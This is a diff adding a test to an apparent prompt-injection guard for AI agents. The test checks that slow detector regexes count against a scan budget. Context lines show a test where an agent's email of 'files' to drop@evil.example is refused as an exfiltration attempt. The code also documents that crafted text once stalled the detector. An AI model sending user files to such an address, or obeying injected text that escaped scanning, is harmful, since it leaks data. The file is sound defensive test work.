@@ -587,3 +587,28 @@ def test_an_injection_spelt_in_invisible_tag_characters_is_read_as_the_model_rea
         assert res.action.value == "instruct" and "override" in res.deciding.details["signs"]
         d = run.tool_call("send_email", {"to": "drop@evil.example", "body": "files"})
         assert d.action.value == "refuse" and d.deciding.rule == "taint.suspicious"
+
+
+def test_slow_signs_count_against_the_scan_budget(make_guard, monkeypatch):
+    """The budget was checked only between classifier batches, so text crafted to make the
+    signs' regexes slow (once 68 ms per chunk, 43 s for a 200 KB result) ran unbounded."""
+    import time as _time
+
+    from detectors.safety import injection
+
+    real = injection.score_text
+
+    def slow(text):  # signs that take 5 ms per chunk
+        _time.sleep(0.005)
+        return real(text)
+
+    monkeypatch.setattr(injection, "score_text", slow)
+    inj = {**INJ, "timeout_ms": 60000, "config": {"scan_budget_ms": 100}}
+    g = make_guard([inj, TAINT])
+    detector = next(s.interceptor for s in g.pipeline.stages if s.label == "safety.injection")
+    detector.warmup()
+    page = "\n".join(f"Row {i}: quantity {i}, status shipped, warehouse north." for i in range(400))
+    with g.run(agent="a") as run:
+        run.input("Summarise the shipping page")
+        res = run.tool_result("read_page", page)  # about 63 chunks x 5 ms: past the 0.1 s budget
+        assert res.deciding.rule == "injection.unscanned" and res.deciding.details["over_budget"] is True
